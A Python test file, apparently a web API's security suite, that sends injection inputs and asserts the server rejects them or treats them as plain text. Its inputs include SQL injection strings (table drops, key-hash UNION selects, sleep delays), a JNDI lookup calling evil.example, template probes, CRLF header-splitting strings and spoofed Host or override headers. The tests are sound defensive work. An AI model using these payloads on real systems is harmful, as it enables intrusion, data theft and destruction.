"""P33, P11: text that would be code somewhere else, in every place where text is taken."""

import re
from urllib.parse import quote

import pytest

from conftest import OPERATIONS, caller_of, operations
from house.client import LEARNING, Caller, expect, raw_request
from house.operations import own_names
from house.world import unique

SPLICES = [
    "' OR '1'='1", "'; DROP TABLE promoted_rules; --", "1; SELECT pg_sleep(30)--", "1) UNION SELECT key_hash FROM api_keys --",
    "%' AND pg_sleep(30) IS NULL --", "\\'; SELECT 1 --", "$$; SELECT 1; $$", "\"; DELETE FROM sessions; --",
    "1 OFFSET 1", "created_at; --", "(SELECT 1)", "50 -- ", "0x32", "5e1", "+50", "50 ", "৫", "NULL", "{}", "*", "%", "_",
    "\u2019 OR 1=1", "-1", "9223372036854775808", "L1' --", "a\tb", "${jndi:ldap://evil.example}", "{{7*7}}", "<script>",
]
TABLES = ("partners", "users", "api_keys", "sessions", "promoted_rules", "learning_promotion_candidates",
          "aggregated_pattern_stats", "execution_telemetry", "promotion_audit_log")


def counts(database):
    return {table: database.row(f"SELECT count(*) AS n FROM {table}")["n"] for table in TABLES
            if table not in ("sessions", "api_keys")}


@pytest.fixture(scope="module", autouse=True)
def nothing_is_lost(database, home, abroad):
    before = counts(database)
    yield
    after = counts(database)
    assert {table for table in after if after[table] < before[table]} == set()


def pairs(condition):
    chosen = [(operation, parameter["name"]) for operation in OPERATIONS if condition(operation)
              for parameter in operation.parameters_in("query")]
    return pytest.mark.parametrize("operation, parameter", chosen, ids=[f"{o}-{p}" for o, p in chosen])


@pairs(lambda operation: True)
def test_p33_no_query_parameter_reaches_the_sql(server, home, operation, parameter):
    """400, or a list that holds no more than what literally matches: nothing, as nobody's data has these texts. An appliance
    that calls itself that is no other's: 403."""
    name = own_names(server.contract, home.admin, operation)[0] if "{id}" in operation.path else ""
    caller = caller_of(home, operation)
    for splice in SPLICES:
        answer = caller.call(operation.method, operation.address(name), **{parameter: splice},
                             body=operation.body_example() if operation.is_write else None)
        as_another = operation.is_for_appliances and parameter in ("site_id", "appliance_id")
        assert answer.status in ((400, 403) if as_another else (200, 400, 404, 409, 422)), answer
        if operation.is_write:
            assert answer.status != 200, answer
        elif answer.status == 200 and "total" in answer.json() and parameter != "limit":
            assert answer["total"] == 0 or parameter == "q" and len(splice) < 6, answer  # short ones are in some name


@pairs(lambda operation: not operation.is_write)
def test_p33_a_parameter_that_comes_twice_or_in_odd_form_is_refused(server, home, operation, parameter):
    name = own_names(server.contract, home.admin, operation)[0] if "{id}" in operation.path else ""
    path = operation.address(name)
    for query in (f"{parameter}=1&{parameter}=1", f"{parameter}[]=1", f"{parameter}[$ne]=1", f"{parameter}=%ff",
                  f"{parameter}=%00", f"{parameter}=%", f"{parameter}=%zz", f"%00{parameter}=1", f"{parameter}.x=1",
                  f"{parameter}%00=1"):
        head, body = raw_request(server, f"GET {path}?{query} HTTP/1.1\r\nHost: x\r\nX-API-Key: {home.admin.key}\r\n"
                                         "Connection: close\r\n\r\n".encode())
        assert head.split()[1] == "400", (query, head, body)


@operations(lambda operation: "{id}" in operation.path)
def test_p33_no_id_reaches_the_sql(server, home, operation):
    own = own_names(server.contract, home.admin, operation)[0]
    for splice in [*SPLICES, own + "'", own + " OR 1=1", own + "%00", own[:-1], own + "0", own.upper() + "'", "0" * 36]:
        path = operation.path.replace("{id}", quote(splice, safe=""))
        answer = home.admin.call(operation.method, path, body=operation.body_example() if operation.is_write else None,
                                 undocumented=True)
        assert answer.status in (400, 404), (splice, answer)


@pytest.mark.parametrize("header", ["X-API-Key", "Cookie", "Authorization"])
def test_p33_no_credential_reaches_the_sql(server, home, header):
    for splice in SPLICES:
        value = {"Cookie": "flywheel_session=", "Authorization": "Bearer "}.get(header, "") + splice
        answer = Caller(server).call("GET", LEARNING + "/stats", headers={header: value.encode()})
        assert answer.status in (400, 401), (splice, answer)


@operations(lambda operation: operation.takes("Idempotency-Key"))
def test_p33_no_idempotency_key_reaches_the_sql(home, operation):
    for splice in SPLICES:
        answer = home.admin.call(operation.method, operation.address(), body={"nope": splice},
                                 headers={"Idempotency-Key": splice.encode()}, undocumented=True)
        assert answer.status in (400, 404, 422), (splice, answer)


@pytest.mark.parametrize("splice", SPLICES)
def test_p33_p11_a_name_with_code_in_it_is_only_a_name(home, splice):
    candidate = home.new_candidate()
    answer = home.api.approve(candidate["id"], custom_name=splice, notes=splice)
    if "\t" in splice:
        expect(422, answer)
        return
    assert home.api.rule(expect(200, answer)["rule_id"])["name"] == splice.strip()


# ---- headers ----


def test_line_breaks_in_an_address_or_a_value_become_no_header(server, home):
    for text in ("%0d%0aSet-Cookie:%20planted=1", "%0aX-Planted:1", "%E5%98%8A%E5%98%8DSet-Cookie:planted=1"):
        for address in (f"{LEARNING}/candidates?q={text}", f"{LEARNING}/candidates/{text}", f"/{text}", f"/api/{text}"):
            head, _ = raw_request(server, f"GET {address} HTTP/1.1\r\nHost: x\r\nX-API-Key: {home.admin.key}\r\n"
                                          "Connection: close\r\n\r\n".encode())
            assert not re.search(r"(?im)^(set-cookie|x-planted):", head), (address, head)


@pytest.mark.parametrize("name, value", [
    (b"X-Request-Id", b"a\rX-Planted: 1"), (b"X-Request-Id", b"a\x00b"), (b"X-API-Key", b"a\x00b"), (b"X Planted", b"1"),
    (b"X-Planted\x00", b"1"), (b"X-Planted:", b"1\n X"), (b" X-API-Key", b"1"), (b"X-API-Key ", b"1"),
])
def test_a_header_that_is_none_is_refused_or_harmless(server, name, value):
    head, _ = raw_request(server, b"GET /api/version HTTP/1.1\r\nHost: x\r\n" + name + b": " + value
                          + b"\r\nConnection: close\r\n\r\n")
    assert "X-Planted" not in head
    assert head.split()[1] in ("200", "400"), head


def test_headers_do_not_become_parameters_of_the_gateway(home, server):
    """Names that a FastCGI program would believe, with `-` or `_`, and those of proxies in front of it."""
    names = ["Proxy", "Remote-Addr", "Request-Method", "Document-Uri", "Script-Name", "Path-Info", "Query-String",
             "Content-Length-", "Flywheel-Request-Id", "X-HTTP-Method-Override", "X-Method-Override", "X-Original-URL",
             "X-Rewrite-URL", "X-Forwarded-Host", "X-Forwarded-Prefix", "X-Accel-Redirect", "FCGI-Role", "X-Sendfile"]
    for name in names + [name.replace("-", "_") for name in names] + ["HTTP_X_API_KEY", "X_API_KEY"]:
        answer = expect(200, home.admin.call("GET", LEARNING + "/stats", headers={name: "/api/version"}))
        assert "pending_candidates" in answer.json()
    for name in ("X_API_Key", "HTTP_X_API_KEY", "X-Api_Key"):
        expect(401, Caller(server).call("GET", LEARNING + "/stats", headers={name: home.admin.key}))
    for name in ("X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override"):
        expect(401, Caller(server).call("GET", LEARNING + "/stats", headers={name: "/livez"}))


@pytest.mark.parametrize("name", ["X-API-Key", "Cookie", "Authorization", "Origin", "Sec-Fetch-Site", "X-CSRF-Token",
                                  "Idempotency-Key", "If-None-Match", "X-Request-Id", "Content-Type", "Host",
                                  "Content-Length"])
def test_a_header_that_counts_once_is_refused_when_it_comes_twice(server, home, name):
    """nginx and the program behind it would each believe another one."""
    candidate = home.new_candidate()
    body = b'{"reason":"Said under two names"}'
    headers = [("Host", "x"), ("X-API-Key", home.admin.key), ("Content-Type", "application/json"),
               ("Content-Length", str(len(body))), ("Connection", "close")]
    value = dict(headers).get(name, "one")
    extra = [(name, value)] * (1 if name in dict(headers) else 2)
    text = "".join(f"{key}: {what}\r\n" for key, what in headers + extra)
    head, _ = raw_request(server, f"POST {LEARNING}/candidates/{candidate['id']}/reject HTTP/1.1\r\n{text}\r\n".encode()
                          + body)
    decided = home.find(candidate["pattern_signature"])["approval_status"] == "rejected"
    if name in ("X-Request-Id", "If-None-Match", "Origin", "Sec-Fetch-Site", "X-CSRF-Token", "Cookie", "Content-Type",
                "Authorization"):
        assert decided == (head.split()[1] == "200"), head
    else:
        assert head.split()[1] == "400" and not decided, head


def test_a_host_that_lies_changes_no_answer(server, home):
    """Nothing in an answer is built from the Host header."""
    for host in ("evil.example", "evil.example:80", "127.0.0.1@evil.example"):
        head, body = raw_request(server, f"GET {LEARNING}/candidates HTTP/1.1\r\nHost: {host}\r\nX-API-Key: "
                                         f"{home.admin.key}\r\nConnection: close\r\n\r\n".encode())
        assert "evil.example" not in head + body


def test_a_search_for_code_finds_its_letters_only(home):
    name = unique("100% <b>_x_</b>")
    expect(200, home.api.approve(home.new_candidate()["id"], custom_name=name))
    assert home.api.rules(q=name)["total"] == 1
    assert home.api.rules(q="100% <b>%x")["total"] == 0
    assert home.api.rules(q=name.replace("_x_", "?x?"))["total"] == 0
